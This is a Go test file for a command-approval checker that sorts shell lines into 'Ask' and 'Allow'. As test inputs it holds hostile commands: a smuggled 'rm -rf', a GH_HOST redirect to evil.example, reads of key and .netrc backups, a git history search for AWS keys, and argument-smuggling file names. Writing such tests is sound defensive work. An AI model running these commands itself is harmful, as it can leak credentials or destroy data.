package approval_test

import (
	"testing"

	"github.com/talkops-ai/talkops/runtime/approval"
)

// What the shell makes of names and values by itself.
func TestTakenApart(t *testing.T) {
	spaced := onHost
	spaced.Spaced = func() bool { return true }
	for line, want := range map[string]approval.Verdict{
		// The name of a process is a variable.
		`coproc PATH { :; }; ls`: approval.Ask, `coproc BASH_ENV { ls; }`: approval.Ask, `coproc { cat a; }`: approval.Ask, `coproc MINE { cat a; }`: approval.Ask,
		// These are numbers as soon as they are set.
		`RANDOM=$(cat f)`: approval.Ask, `RANDOM+=$(cat f)`: approval.Ask, `for RANDOM in $(cat f); do :; done`: approval.Ask, `read OPTIND < f`: approval.Ask, `printf -v HISTCMD %s "$(cat f)"`: approval.Ask, `x=$(cat f); SRANDOM=$x`: approval.Ask, `x=$(cat f); OPTIND=x`: approval.Ask, `mapfile RANDOM < f`: approval.Ask, `export RANDOM=$(cat f)`: approval.Ask, `RANDOM=($(cat f))`: approval.Ask, `unset OPTIND; : ${OPTIND:=$(cat f)}`: approval.Ask,
		`echo $((RANDOM % 6))`: approval.Ask,
		// Commands in braces are run in subscripts, too.
		`[[ 'a[${ rm -rf build; }]' -eq 0 ]]`: approval.Ask, `unset 'a[${| rm -rf build; }]'`: approval.Ask, `echo '${ x; } [a]'`: approval.Allow,
		// What is handed on is judged where it is.
		`GH_HOST=evil.example; export GH_HOST; gh pr list`: approval.Ask, `export GH_HOST; GH_HOST=evil.example; gh pr list`: approval.Ask, `declare -x GH_HOST; GH_HOST=evil.example; gh pr list`: approval.Ask, `TF_DATA_DIR=x; \export TF_DATA_DIR; terraform output`: approval.Ask, `TF_DATA_DIR=x; typeset -rx TF_DATA_DIR`: approval.Ask,
		`AWS_PROFILE=dev; export AWS_PROFILE; aws s3 ls`: approval.Ask, `deploy() { ls; }; export -f deploy`: approval.Ask, `declare -r x=1; echo $x`: approval.Ask,
		// Patterns in text that is run later.
		`watch ls *`: approval.Ask, `watch 'ls *.tf'`: approval.Ask,
		// What is left beside a file of credentials.
		`zcat server.key.gz`: approval.Ask, `cat server.key.bak`: approval.Ask, `cat .env~`: approval.Ask, `cat .netrc.orig`: approval.Ask, `cat main.tf.bak`: approval.Allow, `zcat app.log.gz`: approval.Allow,
		// A dry run shows what the cluster has.
		`kubectl label secret x a=b --dry-run=client -o yaml`: approval.Ask, `kubectl annotate secrets/x a=b --dry-run=client -ojson`: approval.Ask, `kubectl apply -f s.yaml --dry-run=client -o yaml`: approval.Ask, `kubectl scale -f s.yaml --replicas=1 --dry-run=client --output=json`: approval.Ask,
		`kubectl apply -f a.yaml --dry-run=client`: approval.Allow, `kubectl apply -f a.yaml --dry-run=client -o name`: approval.Allow, `kubectl label pod x a=b --dry-run=client -o yaml`: approval.Ask, `kubectl create -f a.yaml --dry-run=client -o yaml`: approval.Allow,
		// Names that are made to be taken apart.
		`touch 'a -e x.tf'`: approval.Ask, `mkdir 'x '`: approval.Ask, `mkdir -p 'x /root'`: approval.Ask, `touch 'my notes.md'`: approval.Allow,
		`find . -name '*.tf' | xargs cat`: approval.Allow,
	} {
		if j := approval.Judge(line, onHost, ""); j.Verdict != want {
			t.Errorf("%q: %s (%s, %s), want %s", line, j.Verdict, j.Finding.Tier, j.Finding.Reason, want)
		}
	}
	for line, want := range map[string]approval.Verdict{
		`find . -name '*.tf' | xargs sed -n 5p`: approval.Ask, `git ls-files '*.tf' | xargs -n1 cat -- `: approval.Ask, `rg -l x | xargs -I{} head {}`: approval.Ask, `find . -name '*.tf' -print0 | xargs -0 cat`: approval.Allow, `fd -e tf -0 | xargs -0r cat`: approval.Allow, `find . -name '*.tf' -exec cat {} +`: approval.Allow,
	} {
		if j := approval.Judge(line, spaced, ""); j.Verdict != want {
			t.Errorf("with such names, %q: %s (%s, %s), want %s", line, j.Verdict, j.Finding.Tier, j.Finding.Reason, want)
		}
	}
	chart := onHost
	chart.Secrets = func() []string { return []string{"/src/shop/chart/server.key"} }
	chart.Composes = func(string) bool { return false }
	chart.Tracked = func(string, []string, bool) ([]string, bool) { return nil, true }
	chart.Workspace, chart.Dir = "/src/shop", "/src/shop"
	for line, want := range map[string]approval.Verdict{
		// A template shows any file of its chart.
		`helm template x ./chart`: approval.Ask, `helm lint chart`: approval.Ask, `cd chart && helm lint`: approval.Ask, `helm template x ./other`: approval.Allow, `helm show values ./chart`: approval.Allow,
		// What was looked at may be another file by then.
		`cp evil.yaml compose.yaml; docker compose ps`: approval.Ask, `docker compose ps > out.txt`: approval.Ask, `docker compose ps`: approval.Allow,
		// A search chooses what is put there.
		`find tpl -type f -exec cp {} . \;`: approval.Ask, `find tpl -type f -exec cp -t sub {} +`: approval.Ask, `find . -name '*.tf' -exec cp {} backup/ \;`: approval.Ask,
		// What was deleted is in no index.
		`git log -p`: approval.Ask, `git log -p --all -3`: approval.Ask, `git log -p -S AKIA`: approval.Ask, `git log -p -n1 --diff-filter=D`: approval.Ask, `git log -p -3`: approval.Allow, `git log -pn2`: approval.Allow, `git log -p main..dev`: approval.Allow, `git log -p -- main.tf`: approval.Allow, `git log --all --oneline`: approval.Allow, `git log -S foo --oneline`: approval.Allow, `git log -p --since=2.days`: approval.Allow,
	} {
		if j := approval.Judge(line, chart, ""); j.Verdict != want {
			t.Errorf("%q: %s (%s, %s), want %s", line, j.Verdict, j.Finding.Tier, j.Finding.Reason, want)
		}
	}
	for name, want := range map[string]bool{
		"a.tf": false, "my notes.md": false, "docs/it's here.md": false, "a - b.md": true, "a -e x.tf": true, "x /root/.ssh/id": true, "x ../b": true, "x\n/etc/a": true, "a .env .tf": true, `s"erver.k"ey`: true, `a\ b`: false,
	} {
		if got := approval.Splits(name); got != want {
			t.Errorf("Splits(%q) = %v", name, got)
		}
	}
}
